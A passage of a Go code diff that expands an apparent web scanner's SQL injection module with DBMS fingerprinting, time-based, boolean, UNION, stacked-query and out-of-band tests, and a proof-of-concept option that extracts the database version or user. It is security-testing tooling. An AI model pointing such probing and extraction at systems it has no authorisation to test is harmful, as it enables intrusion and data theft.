@@ -6,42 +6,129 @@ import (
 	"Dursgo/internal/logger"
 	"Dursgo/internal/payloads"
 	"Dursgo/internal/scanner"
+	"Dursgo/internal/scanner/compare"
+	"Dursgo/internal/scanner/requtil"
+	"Dursgo/internal/scanner/timing"
+	"Dursgo/internal/soft404"
+	"context"
+	"errors"
 	"fmt"
 	"io"
 	"net/http"
 	"net/url"
-	"regexp"
+	"slices"
 	"strings"
+	"sync"
 	"time"
-
-	"github.com/agext/levenshtein"
 )
 
-// ignoredParams is a list of parameters to be ignored during scanning to reduce false positives.
-var ignoredParams = map[string]bool{
-	"_csrf_token": true,
-	"csrf_token":  true,
-	"csrf":        true,
-	"token":       true,
-	"_token":      true,
+// dbmsFingerprint holds the database backend inferred for the request being scanned.
+// An empty DBMS means fingerprinting was inconclusive and all payloads should be used.
+type dbmsFingerprint struct {
+	DBMS    string // Inferred DBMS (e.g., "MySQL").
+	Version string // Version extracted from a database error message, if any.
+	Method  string // How the DBMS was inferred (e.g., "error message", "syntax probes").
 }
 
-// specialPaths is a list of paths that often cause false positives and will be ignored.
-var specialPaths = []string{
-	"/comment",
-	// "/login", // Temporarily removed to allow for auth bypass scanning
-	"/register",
+// annotate appends the inferred backend to a finding's details (e.g., "MySQL 5.7.31 suspected").
+func (f dbmsFingerprint) annotate(details string) string {
+	if f.DBMS == "" {
+		return details
+	}
+	backend := f.DBMS
+	if f.Version != "" {
+		backend += " " + f.Version
+	}
+	return fmt.Sprintf("%s Backend: %s suspected (via %s).", details, backend, f.Method)
 }
 
 // SQLiScanner implements the Scanner interface for SQL Injection.
-// It performs various types of SQL injection tests, including error-based, time-based, and boolean-based.
-type SQLiScanner struct{}
+// It performs various types of SQL injection tests, including error-based, stacked-query, time-based, boolean-based and UNION-based.
+type SQLiScanner struct {
+	plans      timing.HostPlans // Adaptive timing plans, measured once per host.
+	planLogged sync.Once        // The configured timing plan is logged once per scan.
+}
 
 // NewSQLiScanner creates a new instance of SQLiScanner.
 func NewSQLiScanner() *SQLiScanner {
 	return &SQLiScanner{}
 }
 
+// ModuleName selects the scanner (-s) and holds its options in config.yaml (scanners.sqli).
+const ModuleName = "sqli"
+
+// Techniques selectable with the techniques option, one per test stage of Scan.
+const (
+	techniqueError   = "error"
+	techniqueStacked = "stacked"
+	techniqueTime    = "time"
+	techniqueBoolean = "boolean"
+	techniqueContent = "content"
+	techniqueAuth    = "auth"
+	techniqueUnion   = "union"
+	techniqueOOB     = "oob"
+)
+
+// allTechniques are the techniques in the order Scan tests them.
+var allTechniques = []string{techniqueError, techniqueStacked, techniqueTime, techniqueBoolean, techniqueContent, techniqueAuth, techniqueUnion, techniqueOOB}
+
+// parseTechniques parses the techniques option: a comma-separated list of technique names, or
+// "all" (or empty) for every technique.
+func parseTechniques(value string) (map[string]bool, error) {
+	selected := make(map[string]bool, len(allTechniques))
+	for _, name := range strings.Split(strings.ToLower(value), ",") {
+		switch name = strings.TrimSpace(name); {
+		case name == "" || name == "all":
+			for _, technique := range allTechniques {
+				selected[technique] = true
+			}
+		case slices.Contains(allTechniques, name):
+			selected[name] = true
+		default:
+			return nil, fmt.Errorf("unknown technique %q; use all or %s", name, strings.Join(allTechniques, ", "))
+		}
+	}
+	return selected, nil
+}
+
+// enabledTechniques returns the techniques selected by the techniques option of opts; every
+// technique when it is unset.
+func enabledTechniques(opts scanner.ScannerOptions) map[string]bool {
+	selected, err := parseTechniques(opts.StringOption(ModuleName, "techniques", "all"))
+	if err != nil { // Rejected by Resolve; only reachable with hand-built options.
+		selected, _ = parseTechniques("all")
+	}
+	return selected
+}
+
+func init() {
+	scanner.Register(scanner.Registration{
+		Name:           ModuleName,
+		Order:          30,
+		DefaultEnabled: true,
+		Options: []scanner.OptionSpec{
+			{Name: "techniques", Type: scanner.OptionString, Default: "all", Description: "Comma-separated techniques to test: error, stacked, time, boolean, content, auth, union, oob (or all)",
+				Validate: func(value interface{}) error { _, err := parseTechniques(value.(string)); return err }},
+			{Name: "time_delay", Type: scanner.OptionInt, Default: 5, Description: "Sleep in seconds injected by time-based and stacked-query payloads; findings are confirmed with this delay and its multiples, see time_confirmations (the minimum with adaptive_delay)"},
+			{Name: "time_tolerance", Type: scanner.OptionFloat, Default: 1.0, Description: "Seconds a measured delay may fall short of the injected sleep and still confirm a time-based finding"},
+			{Name: "adaptive_delay", Type: scanner.OptionBool, Default: false, Description: "Scale the sleep to each host: adaptive_delay_factor times the p95 latency of warm-up requests, at least time_delay"},
+			{Name: "adaptive_delay_factor", Type: scanner.OptionFloat, Default: timing.DefaultAdaptiveFactor, Description: "Multiple of the p95 latency of a host used as its sleep with adaptive_delay"},
+			{Name: "poc_value", Type: scanner.OptionString, Default: proofVersion, Description: "Value read from the database by -poc-extraction: version or user",
+				Validate: func(value interface{}) error {
+					if v := value.(string); v != proofVersion && v != proofUser {
+						return fmt.Errorf("unknown value %q; use %s or %s", v, proofVersion, proofUser)
+					}
+					return nil
+				}},
+			{Name: "poc_max_chars", Type: scanner.OptionInt, Default: defaultProofChars, Description: "Characters read at most by -poc-extraction"},
+			{Name: "poc_max_requests", Type: scanner.OptionInt, Default: defaultProofRequests, Description: "Requests sent at most by -poc-extraction for one finding (about 7 per character)"},
+		},
+		// Out-of-band payloads reach sinks without visible effect (logging, async jobs).
+		TestsInertParams: true,
+		New:              func(scanner.Env) scanner.Scanner { return NewSQLiScanner() },
+	})
+}
+
 // Name returns the name of the scanner.
 func (s *SQLiScanner) Name() string {
 	return "Advanced SQL Injection Scanner"
@@ -50,267 +137,677 @@ func (s *SQLiScanner) Name() string {
 // Scan performs the SQL Injection scan.
 // It orchestrates various SQL injection tests, including error-based, time-based, and boolean-based,
 // while ignoring common non-vulnerable parameters and paths to reduce false positives.
-func (s *SQLiScanner) Scan(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, opts scanner.ScannerOptions) ([]scanner.VulnerabilityResult, error) {
+func (s *SQLiScanner) Scan(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, opts scanner.ScannerOptions) ([]scanner.VulnerabilityResult, error) {
 	var findings []scanner.VulnerabilityResult
+	log = log.With(logger.Fields{logger.ScannerField: ModuleName, "url": req.URL, "method": req.Method})
 
-	if req.Method != "GET" && req.Method != "POST" {
+	if req.Method != "GET" && req.Method != "POST" && !req.IsJSON() {
+		opts.Coverage.SkipRequest(ModuleName, req, scanner.SkipReasonMethod)
 		return nil, nil
 	}
 
-	for _, path := range specialPaths {
-		if strings.Contains(req.URL, path) {
-			return nil, nil // Ignore special paths
-		}
+	paramNames := req.ParamNames
+	if req.IsJSON() && len(paramNames) == 0 {
+		paramNames = requtil.JSONParamNames(req.RawBody) // JSON APIs are tested on every string/number leaf.
 	}
+	if originalParams, err := requtil.Params(req); err == nil {
+		// Strings inside JSON or base64 parameter values, e.g. filter={"name":"x"}.
+		paramNames = append(append([]string{}, paramNames...), requtil.NestedParamNames(originalParams, paramNames)...)
+	}
+	if len(req.PathParams) > 0 {
+		paramNames = append(append([]string{}, paramNames...), requtil.PathParamNames(req)...)
+	}
+	if opts.InjectHeaders {
+		// Opt-in: headers and cookies multiply the request count for every endpoint.
+		req = requtil.AddHeaderInjectionPoints(req, client)
+		paramNames = append(append([]string{}, paramNames...), requtil.InjectionPointNames(req)...)
+	}
+
+	// The backend is shared by every parameter of the request, so it is fingerprinted once
+	// (retrying on later parameters until a probe is conclusive).
+	var fingerprint dbmsFingerprint
+	cmp := compare.New(opts, log, "SQLi")
+	run := enabledTechniques(opts)
 
 ParamLoop:
-	for _, paramName := range req.ParamNames {
-		if _, ignored := ignoredParams[strings.ToLower(paramName)]; ignored {
-			continue // Ignore special parameters
+	for _, paramName := range paramNames {
+		if ctx.Err() != nil {
+			// Cancelled (Ctrl-C or deadline): keep what was found so far.
+			log.Debug("SQLi: Scan of %s cancelled, returning %d finding(s)", req.URL, len(findings))
+			return scoreFindings(findings, client), ctx.Err()
 		}
+		if opts.SkipParam(ModuleName, requtil.DisplayName(paramName)) {
+			// E.g., anti-CSRF tokens, which must stay valid.
+			opts.Coverage.Skip(ModuleName, req, paramName, scanner.SkipReasonRule)
+			continue
+		}
+		log := log.With(logger.Fields{"param": paramName})
 
 		log.Debug("SQLi: Testing parameter '%s' in %s", paramName, req.URL)
 
-		// 1. Error-Based (Most Reliable)
-		errorVuln, foundErrorBased := s.testErrorBased(req, client, log, paramName)
-		if foundErrorBased {
-			findings = append(findings, errorVuln)
+		// Findings on a string nested in a parameter value name the encodings around it.
+		found := func(vuln scanner.VulnerabilityResult) {
+			if note := requtil.NestedNote(req, paramName); note != "" {
+				vuln.Details += " " + note
+			}
+			findings = append(findings, vuln)
+		}
+
+		// Each parameter gets its own request budget; once it is spent the remaining
+		// payloads fail fast and the later test stages are skipped.
+		paramClient := client.WithRequestBudget(opts.MaxRequestsPerParam)
+
+		// A parameter found inert changes nothing in the response, so the in-band stages
+		// cannot see it; only the out-of-band test is run.
+		if opts.InertParams.Skip(req, paramName) {
+			if run[techniqueOOB] {
+				log.Debug("SQLi: Parameter '%s' is inert, only testing out-of-band", paramName)
+				s.testOutOfBand(ctx, req, paramClient, log, paramName, fingerprint, opts)
+			} else {
+				opts.Coverage.Skip(ModuleName, req, paramName, scanner.SkipReasonInert)
+			}
 			continue ParamLoop
 		}
+		budgetSpent := func() bool {
+			if skipped := paramClient.SkippedRequests(); skipped > 0 {
+				log.Info("SQLi: Request budget of %d reached for parameter '%s' in %s; skipped %d payload(s) and the remaining test stages.", opts.MaxRequestsPerParam, paramName, req.URL, skipped)
+				opts.Coverage.Skip(ModuleName, req, paramName, scanner.SkipReasonBudget)
+				return true
+			}
+			return false
+		}
 
-		// 2. Time-Based (Reliable for Blind)
-		timeVuln, foundTimeBased := s.testTimeBased(req, client, log, paramName)
-		if foundTimeBased {
-			findings = append(findings, timeVuln)
+		// 0. DBMS Fingerprinting (Narrows down the payload sets below)
+		if fingerprint.DBMS == "" {
+			fingerprint = s.fingerprintDBMS(ctx, req, paramClient, log, paramName, cmp)
+		}
+		if budgetSpent() {
 			continue ParamLoop
 		}
 
+		// 1. Error-Based (Most Reliable)
+		if run[techniqueError] {
+			errorVuln, foundErrorBased := s.testErrorBased(ctx, req, paramClient, log, paramName, fingerprint, opts.PayloadTier, opts.Evasion)
+			if foundErrorBased {
+				found(errorVuln)
+				continue ParamLoop
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
+		}
+
+		// 2. Stacked Queries and Time-Based (Reliable for Blind; share one timing baseline)
+		if run[techniqueStacked] || run[techniqueTime] {
+			if baseline, ok := measureTimingBaseline(ctx, req, paramClient, log, opts); ok {
+				plan := s.timingPlan(ctx, req, client, log, opts)
+				if run[techniqueStacked] {
+					stackedVuln, foundStacked := s.testStackedQueries(ctx, req, paramClient, log, paramName, fingerprint, opts.PayloadTier, baseline, plan)
+					if foundStacked {
+						found(stackedVuln)
+						continue ParamLoop
+					}
+					if budgetSpent() {
+						continue ParamLoop
+					}
+				}
+
+				if run[techniqueTime] {
+					timeVuln, oracle, foundTimeBased := s.testTimeBased(ctx, req, paramClient, log, paramName, fingerprint, opts.PayloadTier, opts.Evasion, baseline, plan)
+					if foundTimeBased {
+						if opts.PoCExtraction {
+							s.exploit(client, log, opts, &timeVuln, oracle)
+						}
+						found(timeVuln)
+						continue ParamLoop
+					}
+				}
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
+		}
+
 		// 3. Boolean-Based (For Faster Blind)
-		booleanVuln, foundBooleanBased := s.testBooleanBased(req, client, log, paramName)
-		if foundBooleanBased {
-			findings = append(findings, booleanVuln)
-			continue ParamLoop
+		if run[techniqueBoolean] {
+			booleanVuln, oracle, foundBooleanBased := s.testBooleanBased(ctx, req, paramClient, log, paramName, fingerprint, opts.PayloadTier, opts.Evasion, cmp)
+			if foundBooleanBased {
+				booleanVuln.Details = fingerprint.annotate(booleanVuln.Details)
+				if opts.PoCExtraction {
+					s.exploit(client, log, opts, &booleanVuln, oracle)
+				}
+				found(booleanVuln)
+				continue ParamLoop
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
 		}
 
 		// 4. Content-Based (For Bypassing Filters)
-		contentVuln, foundContentBased := s.testContentBased(req, client, log, paramName)
-		if foundContentBased {
-			findings = append(findings, contentVuln)
-			continue ParamLoop
+		if run[techniqueContent] {
+			contentVuln, foundContentBased := s.testContentBased(ctx, req, paramClient, log, paramName, opts.Soft404)
+			if foundContentBased {
+				contentVuln.Details = fingerprint.annotate(contentVuln.Details)
+				found(contentVuln)
+				continue ParamLoop
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
 		}
 
 		// 5. Auth Bypass (Specific to Login Forms)
-		authVuln, foundAuthBypass := s.testAuthBypass(req, client, log, paramName)
-		if foundAuthBypass {
-			findings = append(findings, authVuln)
-			continue ParamLoop
+		if run[techniqueAuth] {
+			authVuln, foundAuthBypass := s.testAuthBypass(ctx, req, paramClient, log, paramName, cmp)
+			if foundAuthBypass {
+				found(authVuln)
+				continue ParamLoop
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
+		}
+
+		// 6. UNION-Based (Most exploitable, but the most expensive to enumerate)
+		if run[techniqueUnion] {
+			unionVuln, foundUnionBased := s.testUnionBased(ctx, req, paramClient, log, paramName, fingerprint, opts.PayloadTier, cmp)
+			if foundUnionBased {
+				found(unionVuln)
+				continue ParamLoop
+			}
+			if budgetSpent() {
+				continue ParamLoop
+			}
+		}
+
+		// 7. Out-of-Band (Confirmed asynchronously through the collaborator)
+		if run[techniqueOOB] {
+			s.testOutOfBand(ctx, req, paramClient, log, paramName, fingerprint, opts)
 		}
 	}
 
-	return findings, nil
+	return scoreFindings(findings, client), ctx.Err()
 }
 
-// testErrorBased performs an error-based SQL injection test.
-// It injects various SQL payloads and checks for database error messages in the response.
-func (s *SQLiScanner) testErrorBased(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string) (scanner.VulnerabilityResult, bool) {
-	for _, payload := range payloads.SQLiPayloads {
-		testParams, err := getOriginalParams(req)
-		if err != nil {
-			continue
+// scoreFindings adjusts the CVSS vectors of findings to the session of the scan: an injection
+// reached with the scan's credentials needs an account to exploit (PR:L). Auth bypasses are
+// exploitable without one by definition.
+func scoreFindings(findings []scanner.VulnerabilityResult, client *httpclient.Client) []scanner.VulnerabilityResult {
+	if !client.Authenticated() {
+		return findings
+	}
+	for i := range findings {
+		if findings[i].VulnerabilityType != "SQL Injection (Auth Bypass)" {
+			findings[i].SetCVSSMetrics("PR:L")
 		}
-		originalValue := testParams.Get(paramName)
-		testParams.Set(paramName, originalValue+payload)
+	}
+	return findings
+}
 
-		_, body, err := sendRequest(req, client, log, testParams)
+// fingerprintDBMS infers the database backend before the main tests run.
+// A database error triggered by a control probe is used directly; otherwise each DBMS-specific
+// probe that leaves the response unchanged (while the control probe changes it) is a candidate,
+// and the result is only trusted when exactly one DBMS matches.
+func (s *SQLiScanner) fingerprintDBMS(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, cmp compare.Comparator) dbmsFingerprint {
+	originalParams, err := requtil.Params(req)
+	if err != nil {
+		return dbmsFingerprint{}
+	}
+	_, baselineBody, err := requtil.Send(ctx, req, client, originalParams)
+	if err != nil {
+		return dbmsFingerprint{}
+	}
+
+	inject := func(payload string) (string, error) {
+		testParams := requtil.Copy(originalParams)
+		testParams.Set(paramName, testParams.Get(paramName)+payload)
+		_, body, err := requtil.Send(ctx, req, client, testParams)
+		return body, err
+	}
+
+	controlBody, err := inject(payloads.DBFingerprintControlPayload)
+	if err != nil {
+		return dbmsFingerprint{}
+	}
+	if fingerprint := fingerprintFromError(controlBody); fingerprint.DBMS != "" {
+		log.Debug("SQLi: Fingerprinted DBMS for '%s' as %s from error message", paramName, fingerprint.DBMS)
+		return fingerprint
+	}
+	if !cmp.IsDifferent(baselineBody, controlBody) {
+		log.Debug("SQLi: DBMS fingerprinting inconclusive for '%s' (control probe had no effect)", paramName)
+		return dbmsFingerprint{}
+	}
+
+	candidates := make(map[string]bool)
+	for _, probe := range payloads.DBFingerprintProbes {
+		if candidates[probe.DBMS] {
+			continue // One matching probe per DBMS is enough.
+		}
+		body, err := inject(probe.Payload)
 		if err != nil {
 			continue
 		}
-
-		for _, pattern := range payloads.SQLiErrorPatterns {
-			re := regexp.MustCompile(pattern)
-			if re.MatchString(body) {
-				log.Success("SQLi (Error-Based): Found pattern '%s' for param '%s'", pattern, paramName)
-				testURL, _, _ := buildRequestComponents(req, testParams)
-				vuln := scanner.VulnerabilityResult{
-					VulnerabilityType: "SQL Injection (Error-Based)",
-					URL:               testURL,
-					Parameter:         paramName,
-					Payload:           payload,
-					Details:           "A database error message was detected in the response, indicating a potential SQL injection vulnerability.",
-					Severity:          "High",
-					Evidence:          re.FindString(body),
-					Location:          getParamLocation(req),
-					Remediation:       "Use parameterized queries (prepared statements).",
-					ScannerName:       s.Name(),
-				}
-				return vuln, true
-			}
+		if !cmp.IsDifferent(baselineBody, body) {
+			log.Debug("SQLi: DBMS probe '%s' (%s) matched baseline for '%s'", probe.Payload, probe.Description, paramName)
+			candidates[probe.DBMS] = true
 		}
 	}
-	return scanner.VulnerabilityResult{}, false
+	if len(candidates) != 1 {
+		log.Debug("SQLi: DBMS fingerprinting inconclusive for '%s' (%d candidates)", paramName, len(candidates))
+		return dbmsFingerprint{}
+	}
+	for dbms := range candidates {
+		log.Debug("SQLi: Fingerprinted DBMS for '%s' as %s from syntax probes", paramName, dbms)
+		return dbmsFingerprint{DBMS: dbms, Method: "syntax probes"}
+	}
+	return dbmsFingerprint{}
 }
 
-// testTimeBased performs a time-based blind SQL injection test.
-// It injects time-delay payloads and measures the response time to detect vulnerabilities.
-func (s *SQLiScanner) testTimeBased(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string) (scanner.VulnerabilityResult, bool) {
-	baselineDuration, err := measureRequestDuration(req, client, log, nil) // Baseline without any params
-	if err != nil {
-		return scanner.VulnerabilityResult{}, false
+// fingerprintFromError infers the DBMS and version from a response containing a database error:
+// from the database family of the matching error signature, else from the error text.
+func fingerprintFromError(body string) dbmsFingerprint {
+	signature, _, ok := payloads.MatchSQLiError(body)
+	if !ok {
+		return dbmsFingerprint{}
+	}
+	dbms := signature.DBMS
+	if dbms == "" {
+		dbms = payloads.InferDBType(body)
 	}
+	if dbms == "Unknown" || dbms == "Generic/PDO" {
+		return dbmsFingerprint{}
+	}
+	return dbmsFingerprint{DBMS: dbms, Version: payloads.ExtractDBVersion(body), Method: "error message"}
+}
 
-	for _, payload := range payloads.TimeBasedSQLiTests {
-		testParams, err := getOriginalParams(req)
+// testErrorBased performs an error-based SQL injection test.
+// It injects various SQL payloads and checks for database error messages in the response.
+// Payloads are narrowed down to the fingerprinted DBMS when one is known, and expanded with the
+// variants of evasion.
+func (s *SQLiScanner) testErrorBased(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, fingerprint dbmsFingerprint, tier scanner.PayloadTier, evasion scanner.Evasion) (scanner.VulnerabilityResult, bool) {
+	for _, variant := range scanner.Expand(evasion, payloads.PayloadSQL, scanner.TrimPayloads(tier, payloads.SQLiPayloadsForDBMS(fingerprint.DBMS)), applyString) {
+		payload := variant.Payload
+		testParams, err := requtil.Params(req)
 		if err != nil {
 			continue
 		}
 		originalValue := testParams.Get(paramName)
-		payloadStr := strings.Replace(payload.PayloadTemplate, "{DELAY}", "5", -1)
-		testParams.Set(paramName, originalValue+payloadStr)
+		testParams.Set(paramName, originalValue+payload)
 
-		testDuration, err := measureRequestDuration(req, client, log, testParams)
-		if err != nil {
+		_, body, exchange, err := requtil.SendCaptured(ctx, req, client, testParams)
+		if err != nil && !errors.Is(err, httpclient.ErrBodyTruncated) {
 			continue
 		}
 
-		// If test time > baseline + 4 seconds (allowing 1 second tolerance)
-		if testDuration > baselineDuration+(4*time.Second) {
-			log.Success("SQLi (Time-Based): Detected significant delay for param '%s'", paramName)
-			testURL, _, _ := buildRequestComponents(req, testParams)
+		if signature, evidence, ok := payloads.MatchSQLiError(body); ok {
+			log.Success("SQLi (Error-Based): Found pattern '%s' for param '%s'", signature.Pattern, paramName)
+			testURL, _, _ := requtil.Components(req, testParams)
+			if errorFingerprint := fingerprintFromError(body); errorFingerprint.DBMS != "" {
+				fingerprint = errorFingerprint // The error message itself is the strongest DBMS signal.
+			}
+			// Only an error message of a specific database proves the query broke; generic
+			// patterns also match application errors.
+			details := "A database error message was detected in the response, indicating a potential SQL injection vulnerability."
+			confidence := scanner.ConfidenceFirm
+			if signature.DBMS != "" {
+				details = fmt.Sprintf("A %s error message was detected in the response, indicating a potential SQL injection vulnerability.", signature.DBMS)
+				confidence = scanner.ConfidenceCertain
+			}
 			vuln := scanner.VulnerabilityResult{
-				VulnerabilityType: "SQL Injection (Time-Based)",
+				VulnerabilityType: "SQL Injection (Error-Based)",
 				URL:               testURL,
-				Parameter:         paramName,
-				Payload:           payloadStr,
-				Details:           fmt.Sprintf("A time delay of %.2f seconds was detected (baseline: %.2f seconds).", testDuration.Seconds(), baselineDuration.Seconds()),
+				Parameter:         requtil.DisplayName(paramName),
+				Payload:           payload,
+				Details:           fingerprint.annotate(details),
 				Severity:          "High",
-				Evidence:          fmt.Sprintf("Response time: %s", testDuration),
-				Location:          getParamLocation(req),
+				Confidence:        confidence,
+				Evidence:          evidence,
+				Location:          requtil.Location(req, paramName),
 				Remediation:       "Use parameterized queries (prepared statements).",
 				ScannerName:       s.Name(),
+				Reproduction:      &scanner.Reproduction{Check: scanner.CheckPattern, Request: requtil.Replay(req, testParams), Pattern: signature.Pattern},
+				Transformation:    variant.Transformation,
 			}
+			vuln.SetExchange(exchange)
 			return vuln, true
 		}
 	}
 	return scanner.VulnerabilityResult{}, false
 }
 
+// applyString transforms a plain string payload, for scanner.Expand.
+func applyString(payload string, transform func(string) string) string {
+	return transform(payload)
+}
+
+// measureTimingBaseline samples the response time of the unmodified request.
+func measureTimingBaseline(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, opts scanner.ScannerOptions) (timing.Baseline, bool) {
+	return timing.MeasureBaseline(opts.TimeBasedBaselineSamples, func() (time.Duration, error) {
+		duration, _, err := requtil.Measure(ctx, req, client, nil) // Baseline with the original params
+		return duration, err
+	})
+}
+
+// timingPlan returns how time-based findings on the host of req are confirmed: with time_delay
+// and its multiples, or with adaptive_delay, with a sleep scaled to the p95 latency of warm-up
+// requests to the host, measured once per host. A host whose warm-up fails gets time_delay.
+func (s *SQLiScanner) timingPlan(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, opts scanner.ScannerOptions) timing.Plan {
+	configured := timing.Plan{Delays: timing.Delays(opts.IntOption(ModuleName, "time_delay", 0), opts.TimeConfirmations), Tolerance: timing.Tolerance}
+	if tolerance := opts.FloatOption(ModuleName, "time_tolerance", -1); tolerance >= 0 {
+		configured.Tolerance = time.Duration(tolerance * float64(time.Second))
+	}
+	if !opts.BoolOption(ModuleName, "adaptive_delay", false) {
+		s.planLogged.Do(func() { log.Info("SQLi: Confirming time-based findings with %s.", configured) })
+		return configured
+	}
+
+	host := req.URL
+	if u, err := url.Parse(req.URL); err == nil {
+		host = u.Host
+	}
+	plan, ok := s.plans.Get(host, func() (timing.Plan, bool) {
+		warmup, ok := measureTimingBaseline(ctx, req, client, log, opts)
+		if !ok {
+			log.Warn("SQLi: Warm-up requests to %s failed; confirming time-based findings with %s.", host, configured)
+			return timing.Plan{}, false
+		}
+		factor := opts.FloatOption(ModuleName, "adaptive_delay_factor", timing.DefaultAdaptiveFactor)
+		if factor <= 0 {
+			factor = timing.DefaultAdaptiveFactor
+		}
+		p95 := timing.Percentile(warmup.Samples, 95)
+		plan := configured
+		plan.Delays = timing.Delays(timing.AdaptiveDelay(configured.Delays[0], factor, p95), len(configured.Delays))
+		plan.Adaptive = &timing.Adaptation{Factor: factor, P95: p95, Samples: len(warmup.Samples)}
+		log.Info("SQLi: Confirming time-based findings on %s with %s.", host, plan)
+		return plan, true
+	})
+	if !ok {
+		return configured
+	}
+	return plan
+}
+
+// confirmTimeDelay injects payloadTemplate with every delay of plan (in seconds) and verifies
+// the delays with plan.Confirm. It returns the last payload, parameters and exchange sent along
+// with one confirmation per delay.
+func confirmTimeDelay(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName, payloadTemplate string, baseline timing.Baseline, plan timing.Plan) (string, url.Values, scanner.Exchange, []string, bool) {
+	originalParams, err := requtil.Params(req)
+	if err != nil {
+		return "", nil, scanner.Exchange{}, nil, false
+	}
+	originalValue := originalParams.Get(paramName)
+
+	var testParams url.Values
+	var payloadStr string
+	var exchange scanner.Exchange
+	confirmations, confirmed := plan.Confirm(baseline, func(delay int) (time.Duration, error) {
+		testParams = requtil.Copy(originalParams)
+		payloadStr = strings.Replace(payloadTemplate, "{DELAY}", fmt.Sprintf("%d", delay), -1)
+		testParams.Set(paramName, originalValue+payloadStr)
+
+		var duration time.Duration
+		duration, exchange, err = requtil.Measure(ctx, req, client, testParams)
+		return duration, err
+	})
+	if !confirmed {
+		return "", nil, scanner.Exchange{}, nil, false
+	}
+	return payloadStr, testParams, exchange, confirmations, true
+}
+
+// timingConfidence rates a time-based finding by its confirmations: a delay reproduced with
+// several sleeps is Firm, a single measured delay Tentative.
+func timingConfidence(confirmations []string) string {
+	if len(confirmations) < 2 {
+		return scanner.ConfidenceTentative
+	}
+	return scanner.ConfidenceFirm
+}
+
+// testTimeBased performs a time-based blind SQL injection test.
+// Every delay of plan must push the response past the baseline threshold, with the
+// measured delay growing along with the injected one. This filters out one-off slow responses.
+// Only the fingerprinted DBMS's sleep functions are tried when the backend is known. The oracle
+// of the confirmed payload is returned for -poc-extraction.
+func (s *SQLiScanner) testTimeBased(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, fingerprint dbmsFingerprint, tier scanner.PayloadTier, evasion scanner.Evasion, baseline timing.Baseline, plan timing.Plan) (scanner.VulnerabilityResult, blindOracle, bool) {
+	log.Debug("SQLi (Time-Based): Baseline for '%s' over %d samples: mean %s, stddev %s", paramName, len(baseline.Samples), baseline.Mean, baseline.StdDev)
+
+	tests := scanner.Expand(evasion, payloads.PayloadSQL, scanner.TrimPayloads(tier, payloads.TimeBasedSQLiTestsForDBMS(fingerprint.DBMS)), func(test payloads.TimeBasedSQLiTest, transform func(string) string) payloads.TimeBasedSQLiTest {
+		test.PayloadTemplate = transform(test.PayloadTemplate)
+		return test
+	})
+	for _, variant := range tests {
+		payload := variant.Payload
+		payloadStr, testParams, exchange, confirmations, confirmed := confirmTimeDelay(ctx, req, client, log, paramName, payload.PayloadTemplate, baseline, plan)
+		if !confirmed {
+			continue
+		}
+
+		log.Success("SQLi (Time-Based): Detected significant delay for param '%s'", paramName)
+		testURL, _, _ := requtil.Components(req, testParams)
+		if fingerprint.DBMS == "" {
+			fingerprint = dbmsFingerprint{DBMS: payload.DBMS, Method: "sleep function"}
+		}
+		vuln := scanner.VulnerabilityResult{
+			VulnerabilityType: "SQL Injection (Time-Based)",
+			URL:               testURL,
+			Parameter:         requtil.DisplayName(paramName),
+			Payload:           payloadStr,
+			Details:           fingerprint.annotate(fmt.Sprintf("Injected delays were reproduced across %d confirmations and scaled with the requested sleep (baseline mean: %.2f seconds, stddev: %.2f seconds). Confirmed with %s.", len(confirmations), baseline.Mean.Seconds(), baseline.StdDev.Seconds(), plan)),
+			Severity:          "High",
+			Confidence:        timingConfidence(confirmations),
+			Evidence:          fmt.Sprintf("Baseline samples: %s; Injected: %s", timing.FormatDurations(baseline.Samples), strings.Join(confirmations, ", ")),
+			Location:          requtil.Location(req, paramName),
+			Remediation:       "Use parameterized queries (prepared statements).",
+			ScannerName:       s.Name(),
+			Transformation:    variant.Transformation,
+		}
+		if originalParams, err := requtil.Params(req); err == nil {
+			baselineRequest := requtil.Replay(req, originalParams)
+			vuln.Reproduction = &scanner.Reproduction{Check: scanner.CheckTiming, Request: requtil.Replay(req, testParams), Baseline: &baselineRequest, Delay: plan.Delays[len(plan.Delays)-1]}
+		}
+		vuln.SetExchange(exchange)
+		oracle := timeOracle(ctx, req, paramName, payload, baseline, plan)
+		return vuln, oracle, true
+	}
+	return scanner.VulnerabilityResult{}, blindOracle{}, false
+}
+
 // testBooleanBased performs a boolean-based blind SQL injection test.
 // It injects true and false conditions and compares the responses to detect differences.
-func (s *SQLiScanner) testBooleanBased(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string) (scanner.VulnerabilityResult, bool) {
-	originalParams, err := getOriginalParams(req)
+// Tests using the syntax of another DBMS than the fingerprinted one are skipped. The oracle of
+// the confirmed test is returned for -poc-extraction.
+func (s *SQLiScanner) testBooleanBased(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, fingerprint dbmsFingerprint, tier scanner.PayloadTier, evasion scanner.Evasion, cmp compare.Comparator) (scanner.VulnerabilityResult, blindOracle, bool) {
+	originalParams, err := requtil.Params(req)
 	if err != nil {
-		return scanner.VulnerabilityResult{}, false
+		return scanner.VulnerabilityResult{}, blindOracle{}, false
 	}
-	_, originalBody, err := sendRequest(req, client, log, originalParams)
+	_, originalBody, err := requtil.Send(ctx, req, client, originalParams)
 	if err != nil {
-		return scanner.VulnerabilityResult{}, false
+		return scanner.VulnerabilityResult{}, blindOracle{}, false
 	}
 
-	for _, test := range payloads.BooleanSQLiTests {
